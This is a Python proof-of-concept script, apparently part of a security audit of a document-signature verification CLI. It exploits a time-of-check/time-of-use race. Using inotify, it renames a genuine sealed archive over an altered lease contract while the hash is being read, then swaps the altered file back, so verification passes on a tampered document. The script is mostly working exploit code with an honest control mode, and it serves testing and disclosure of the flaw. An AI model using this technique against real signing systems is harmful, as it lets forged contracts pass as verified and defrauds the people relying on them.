#!/usr/bin/env python3
# B10: an original is judged "a sealed archive" (and left out of the comparison) on bytes read AGAIN by path,
# after the hashing pass read it: withoutSealedArchives -> isSealedArchive -> readBounded(orig.path). A writer
# of the shared originals folder puts an altered copy of the contract beside the genuine documents (alone:
# TOTAL-FAILED/HASH_FAILURE, "not signed in this workflow") and, watching the file with inotify, renames a genuine
# sealed archive over its name once the hashing pass has opened it (the hash goes on reading the altered inode
# through its fd; the copy is padded after %%EOF so that this takes long enough), then renames the altered copy
# back once sealcheck has re-read the name. Deterministic (inotify, no race loop). Verdict:
# TOTAL-PASSED (exit 0), naming the file "a sealed archive (its seal verifies)"; on disk it is the altered contract.
# usage: python3 scripts/attack34b/sealed-original-swap.py [honest]   (honest: no swap; control: exit 1)
import ctypes, os, shutil, struct, subprocess, sys, tempfile, threading
ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
os.chdir(ROOT)
if not os.path.exists("dist/cli/main.js"):
    subprocess.run(["npm", "run", "build"], check=True, stdout=subprocess.DEVNULL)
honest = len(sys.argv) > 1 and sys.argv[1] == "honest"
w = tempfile.mkdtemp(prefix="attack34b-s.")
o = os.path.join(w, "originals"); os.mkdir(o)
for f in os.listdir("samples/valid/originals"):
    shutil.copy(os.path.join("samples/valid/originals", f), o)
X = os.path.join(o, "Lejekontrakt-v2.pdf")
altered = os.path.join(w, "altered.pdf"); sealed = os.path.join(w, "sealed.pdf")
shutil.copy("samples/tampered/original-changed/originals/Lejekontrakt.pdf", altered)   # the changed contract,
with open(altered, "ab") as f:                                                          # padded after %%EOF so that
    f.write(b"\n" * (64 << 20))                                                        # hashing it takes a while
shutil.copy("samples/valid/archive.pdf", sealed)                                       # any genuine sealed archive
def put(src):  # atomic replace of X (the name never disappears)
    tmp = os.path.join(o, ".swap"); shutil.copy(src, tmp); os.rename(tmp, X)
put(altered)
libc = ctypes.CDLL("libc.so.6", use_errno=True)
fd = libc.inotify_init1(0)
IN_CLOSE_NOWRITE, IN_OPEN = 0x10, 0x20
def events():
    buf = os.read(fd, 4096)
    i = 0
    while i < len(buf):
        _, mask, _, n = struct.unpack_from("iIII", buf, i)
        yield mask
        i += 16 + n
def watch():
    # On the altered file: open 1 is looksLikeJson's peek, open 2 the hashing pass (which then reads its fd).
    libc.inotify_add_watch(fd, X.encode(), IN_OPEN)
    opens = 0
    while opens < 2:
        opens += sum(1 for m in events() if m & IN_OPEN)
    put(sealed)          # the hash goes on reading the altered inode; the name now holds a sealed archive
    libc.inotify_add_watch(fd, X.encode(), IN_CLOSE_NOWRITE)   # the new inode: isSealedArchive's read of it
    while not any(m & IN_CLOSE_NOWRITE for m in events()):
        pass
    put(altered)         # the altered contract is back
t = threading.Thread(target=watch, daemon=True)
if not honest:
    t.start()
r = subprocess.run(["node", "dist/cli/main.js", "verify", "samples/valid/workflowtoken.json", o, "--trust", "samples/trust", "--summary"],
                   capture_output=True, text=True)
print("\n".join(r.stdout.splitlines()[:3] + [l for l in r.stdout.splitlines() if "sealed archive" in l or "Lejekontrakt-v2" in l][:3]))
print(f"verify exit code: {r.returncode}")
if not honest:
    t.join(5)
same = open(X, "rb").read() == open(altered, "rb").read()
print(f"{X} on disk now is the altered contract: {same}")
shutil.rmtree(w)
sys.exit(r.returncode)
